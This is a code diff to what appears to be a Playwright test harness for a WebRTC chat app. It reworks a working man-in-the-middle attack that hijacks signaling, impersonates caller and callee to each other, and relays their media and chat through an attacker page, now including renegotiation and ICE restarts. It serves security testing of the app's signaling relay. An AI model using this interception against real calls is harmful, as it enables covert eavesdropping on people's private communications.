@@ -8,17 +8,13 @@
 import type { Browser, Page } from "playwright-core";
 import type { Diverter, Frame, SignalingRelay } from "./signaling_relay.ts";
 
-/** Runs in the attacker's page: two peer connections, one to each person. */
+/**
+ * Runs in the attacker's page: a connection to the callee, and one to the
+ * caller, made again for each new offer of the caller (an offer made again
+ * after a rollback may order its sections differently).
+ */
 const ATTACKER = `
   window.attacker = (() => {
-    const caller = new RTCPeerConnection();
-    const callee = new RTCPeerConnection();
-    // The app's chat channel, agreed on both sides as id 0.
-    const channels = [caller, callee].map((pc) =>
-      pc.createDataChannel("nexus", { negotiated: true, id: 0 })
-    );
-    channels[0].onmessage = (event) => channels[1].readyState === "open" && channels[1].send(event.data);
-    channels[1].onmessage = (event) => channels[0].readyState === "open" && channels[0].send(event.data);
     const gathered = (pc) => new Promise((resolve) => {
       if (pc.iceGatheringState === "complete") return resolve();
       pc.addEventListener("icegatheringstatechange", () =>
@@ -28,46 +24,73 @@ const ATTACKER = `
       await gathered(pc);
       return { type: pc.localDescription.type, sdp: pc.localDescription.sdp };
     };
-    /** Sends on "to" what arrives on "from"'s transceivers, kind by kind, as one stream. */
-    const forward = (from, to, addTo) => {
-      const stream = new MediaStream();
-      const tracks = from.getTransceivers().map((t) => t.receiver.track);
-      tracks.forEach((track) => stream.addTrack(track));
-      if (addTo) {
-        for (const track of tracks) to.addTransceiver(track, { direction: "sendrecv", streams: [stream] });
-        return;
-      }
-      // The callee's sections are the caller's, in the caller's order.
-      to.getTransceivers().forEach((t, i) => {
+    const received = (pc) => pc.getTransceivers().map((t) => t.receiver.track);
+    /** Sends "tracks" on "pc"'s sections, in order, as one stream. */
+    const send = (pc, tracks) => {
+      const stream = new MediaStream(tracks);
+      pc.getTransceivers().forEach((t, i) => {
         t.sender.replaceTrack(tracks[i] ?? null);
         t.sender.setStreams(stream);
         t.direction = "sendrecv";
       });
     };
+    let caller = null;
+    let callee = null;
+    let calleeTracks = null;
+    // The app's chat channel, agreed on both sides as id 0, relayed between them.
+    const channels = {};
+    const relayChat = (pc, side) => {
+      const channel = channels[side] = pc.createDataChannel("nexus", { negotiated: true, id: 0 });
+      channel.onmessage = (event) => {
+        const other = channels[side === "caller" ? "callee" : "caller"];
+        if (other?.readyState === "open") other.send(event.data);
+      };
+    };
+    const answerCaller = async () => {
+      send(caller, calleeTracks);
+      await caller.setLocalDescription();
+      return described(caller);
+    };
     return {
-      /** The caller's offer, taken: the offer the attacker makes the callee instead. */
-      async offerFromCaller(offer) {
+      /**
+       * A new offer of the caller: a new connection takes it. The first makes
+       * the offer for the callee (returned); later ones are answered at once
+       * when the callee has answered (returned), else with the callee's answer.
+       */
+      async callerOffer(offer) {
+        caller?.close();
+        caller = new RTCPeerConnection();
+        relayChat(caller, "caller");
         await caller.setRemoteDescription(offer);
-        forward(caller, callee, true);
+        if (!callee) {
+          callee = new RTCPeerConnection();
+          relayChat(callee, "callee");
+          const tracks = received(caller);
+          const stream = new MediaStream(tracks);
+          for (const track of tracks) {
+            callee.addTransceiver(track, { direction: "sendrecv", streams: [stream] });
+          }
+          await callee.setLocalDescription();
+          return described(callee);
+        }
+        send(callee, received(caller));
+        return calleeTracks ? answerCaller() : null;
+      },
+      /** The callee's answer, taken: the answer for the caller instead. */
+      async calleeAnswer(answer) {
+        await callee.setRemoteDescription(answer);
+        calleeTracks = received(callee);
+        return answerCaller();
+      },
+      /** A later offer of the callee (an ICE restart), answered on its leg. */
+      async calleeOffer(offer) {
+        await callee.setRemoteDescription(offer);
         await callee.setLocalDescription();
         return described(callee);
       },
-      /** The callee's answer, taken: the answer the attacker gives the caller instead. */
-      async answerFromCallee(answer) {
-        await callee.setRemoteDescription(answer);
-        forward(callee, caller, false);
-        await caller.setLocalDescription();
-        return described(caller);
-      },
-      /** A later offer from either person (an ICE restart): answered on that leg alone. */
-      async reoffer(side, offer) {
-        const pc = side === "caller" ? caller : callee;
-        await pc.setRemoteDescription(offer);
-        await pc.setLocalDescription();
-        return described(pc);
-      },
       candidate(side, candidate) {
-        return (side === "caller" ? caller : callee).addIceCandidate(candidate).catch(() => {});
+        const pc = side === "caller" ? caller : callee;
+        return pc?.addIceCandidate(candidate).catch(() => {});
       },
     };
   })();
@@ -93,6 +116,21 @@ export async function manInTheMiddle(
   const page = await (await browser.newContext()).newPage();
   await page.goto(`${origin}/healthz`);
   await page.evaluate(ATTACKER);
+  // One step at a time in the page: both people's frames touch the same connections.
+  let turn: Promise<unknown> = Promise.resolve();
+  const step = <T>(method: string, ...args: unknown[]): Promise<T> => {
+    const result = turn.then(() =>
+      page.evaluate(
+        ([method, args]) =>
+          // deno-lint-ignore no-explicit-any
+          (window as any).attacker[method as string](...(args as unknown[])),
+        [method, args] as const,
+      )
+    );
+    turn = result.catch(() => {});
+    return result as Promise<T>;
+  };
+  let callerOffer = "";
   const attack: ManInTheMiddle = {
     page,
     relay: null,
@@ -100,57 +138,56 @@ export async function manInTheMiddle(
     async divert(user, frame: Frame) {
       if (!attack.attacking) return false;
       const relay = attack.relay!;
-      const side = user === callerId ? "caller" : "callee";
-      const other = side === "caller" ? calleeId : callerId;
-      const payload = frame.payload;
-      // What the attacker makes of `user`'s frame reaches the other person as if from `user`.
-      const as = (type: string, body: Record<string, unknown>) =>
-        relay.deliver(other, {
+      const fromCaller = user === callerId;
+      const other = fromCaller ? calleeId : callerId;
+      // What the attacker makes reaches each person as if from the other.
+      const tell = (to: string, type: string, body: Record<string, unknown>) =>
+        relay.deliver(to, {
           type,
-          payload: { ...body, from: user, to: other },
+          payload: { ...body, from: to === calleeId ? callerId : calleeId, to },
         });
+      const payload = frame.payload;
       switch (frame.type) {
         case "webrtc:candidate":
-          await page.evaluate(
-            ([side, candidate]) =>
-              (window as unknown as {
-                attacker: { candidate(s: unknown, c: unknown): Promise<void> };
-              }).attacker.candidate(side, candidate),
-            [side, payload.candidate],
+          await step(
+            "candidate",
+            fromCaller ? "caller" : "callee",
+            payload.candidate,
           );
           return true;
         case "webrtc:offer": {
-          if (side === "caller" && !offered) {
-            offered = true;
-            const offer = await call("offerFromCaller", payload.offer);
-            // The callee takes an offer only once its call rings.
-            await relay.untilDelivered(calleeId, "call:request");
-            as("webrtc:offer", { offer });
+          if (!fromCaller) {
+            tell(user, "webrtc:answer", {
+              answer: await step("calleeOffer", payload.offer),
+            });
             return true;
           }
-          const answer = await call("reoffer", side, payload.offer);
-          relay.deliver(user, {
-            type: "webrtc:answer",
-            payload: { answer, from: other, to: user },
+          const sdp = (payload.offer as { sdp?: string }).sdp ?? "";
+          // The same offer sent again (the callee answered before it prepared): nothing new.
+          if (sdp === callerOffer) return true;
+          const first = callerOffer === "";
+          callerOffer = sdp;
+          const made = await step<RTCSessionDescriptionInit | null>(
+            "callerOffer",
+            payload.offer,
+          );
+          if (first) {
+            // The callee takes an offer only once its call rings.
+            await relay.untilDelivered(calleeId, "call:request");
+            tell(other, "webrtc:offer", { offer: made });
+          } else if (made) {
+            tell(user, "webrtc:answer", { answer: made });
+          }
+          return true;
+        }
+        case "webrtc:answer":
+          tell(other, "webrtc:answer", {
+            answer: await step("calleeAnswer", payload.answer),
           });
           return true;
-        }
-        case "webrtc:answer": {
-          const answer = await call("answerFromCallee", payload.answer);
-          as("webrtc:answer", { answer });
-          return true;
-        }
       }
       return false;
     },
   };
-  let offered = false;
-  const call = (method: string, ...args: unknown[]) =>
-    page.evaluate(
-      ([method, args]) =>
-        // deno-lint-ignore no-explicit-any
-        (window as any).attacker[method as string](...(args as unknown[])),
-      [method, args] as const,
-    );
   return attack;
 }
